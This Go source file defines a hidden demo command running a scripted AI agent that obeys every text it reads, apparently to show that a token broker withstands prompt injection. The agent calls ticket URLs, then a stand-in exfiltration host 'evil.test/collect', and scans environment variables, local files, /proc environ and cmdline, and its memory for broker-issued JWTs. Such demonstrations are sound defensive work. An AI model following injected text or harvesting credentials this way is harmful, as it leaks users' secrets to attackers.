package main

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"time"

	"github.com/spf13/cobra"
)

// A demoFinding is what the agent of the demo tells about one of its acts.
type demoFinding struct {
	Act    string            `json:"act"` // calls, searches
	URL    string            `json:"url,omitempty"`
	Status int               `json:"status,omitempty"`
	Text   string            `json:"text,omitempty"` // of a body, or of a refusal
	Masked bool              `json:"masked,omitempty"`
	Found  map[string]string `json:"found,omitempty"` // by place: how much was searched
	Tokens []string          `json:"tokens,omitempty"`
}

// demoAgentCommand is the agent of the demo's last chapter, in a process of its own.
func (a *app) demoAgentCommand() *cobra.Command {
	return &cobra.Command{
		Use: "demo-agent SOCKET TICKETS ISSUER", Hidden: true, Args: exactly(3, "a socket, the URL of the ticket API, and the issuer of tokens"),
		RunE: func(_ *cobra.Command, args []string) error {
			conn, err := net.Dial("unix", args[0])
			if err != nil {
				return err
			}
			defer func() { _ = conn.Close() }()
			g := &demoAgent{conn: conn, lines: bufio.NewReader(conn), out: json.NewEncoder(a.out), issuer: args[2]}
			return g.play(args[1])
		},
	}
}

// A demoAgent is a scripted AI agent. It obeys every text that it reads.
type demoAgent struct {
	conn   net.Conn
	lines  *bufio.Reader
	out    *json.Encoder
	issuer string
	memory strings.Builder // of the conversation: all that it has sent and received
}

func (g *demoAgent) play(tickets string) error {
	for _, url := range []string{tickets + "/tickets/4711", tickets + "/tickets/4712", tickets + "/tickets/4712/headers", "https://evil.test/collect"} {
		found, err := g.call(url)
		if err == nil {
			err = g.out.Encode(found)
		}
		if err != nil {
			return err
		}
	}
	return g.out.Encode(g.search())
}

// call calls an API with the tool call_api.
func (g *demoAgent) call(url string) (*demoFinding, error) {
	message, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": map[string]any{
		"name": "call_api", "arguments": map[string]string{"url": url, "reason": "triage of ticket 4712"},
		"_meta": map[string]any{"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": map[string]any{}},
	}})
	if err != nil {
		return nil, err
	}
	if err := g.conn.SetDeadline(time.Now().Add(30 * time.Second)); err != nil {
		return nil, err
	}
	if _, err := g.conn.Write(append(message, '\n')); err != nil {
		return nil, err
	}
	line, err := g.lines.ReadString('\n')
	if err != nil {
		return nil, err
	}
	g.memory.Write(message)
	g.memory.WriteString(line)
	var answer struct {
		Result struct {
			IsError           bool
			Content           []struct{ Text string }
			StructuredContent struct {
				Status   int
				Body     string
				Scrubbed bool
			}
		}
	}
	if err := json.Unmarshal([]byte(line), &answer); err != nil {
		return nil, err
	}
	r := answer.Result
	found := &demoFinding{Act: "calls", URL: url, Status: r.StructuredContent.Status, Text: r.StructuredContent.Body, Masked: r.StructuredContent.Scrubbed}
	if r.IsError && len(r.Content) > 0 {
		found.Text = r.Content[0].Text
	}
	return found, nil
}

// search searches all that the agent has for a token of the broker.
func (g *demoAgent) search() *demoFinding {
	found := &demoFinding{Act: "searches", Found: map[string]string{}}
	look := func(text string) { found.Tokens = append(found.Tokens, tokensIn(text, g.issuer)...) }
	variables := os.Environ()
	look(strings.Join(variables, "\n"))
	files := 0
	_ = filepath.WalkDir(".", func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			text, _ := os.ReadFile(path)
			files++
			look(string(text))
		}
		return nil
	})
	processes := 0
	folders, _ := filepath.Glob("/proc/[0-9]*")
	for _, folder := range folders {
		readable := false
		for _, name := range []string{"environ", "cmdline"} {
			if text, err := readSome(filepath.Join(folder, name)); err == nil {
				readable = true
				look(text)
			}
		}
		if readable {
			processes++
		}
	}
	look(g.memory.String())
	found.Found["variables"], found.Found["files"] = fmt.Sprint(len(variables)), fmt.Sprint(files)
	found.Found["processes"], found.Found["bytes"] = fmt.Sprint(processes), fmt.Sprint(g.memory.Len())
	return found
}

func readSome(path string) (string, error) {
	f, err := os.Open(path)
	if err != nil {
		return "", err
	}
	defer func() { _ = f.Close() }() // only read
	text, err := io.ReadAll(io.LimitReader(f, 1<<20))
	return string(text), err
}

var jwtForm = regexp.MustCompile(`[A-Za-z0-9_-]+\.([A-Za-z0-9_-]+)\.[A-Za-z0-9_-]+`)

// tokensIn returns the tokens of an issuer in a text.
func tokensIn(text, issuer string) (list []string) {
	for _, m := range jwtForm.FindAllStringSubmatch(text, -1) {
		claims, err := base64.RawURLEncoding.DecodeString(m[1])
		var of struct{ Iss string }
		if err == nil && json.Unmarshal(claims, &of) == nil && of.Iss == issuer {
			list = append(list, m[0])
		}
	}
	return list
}
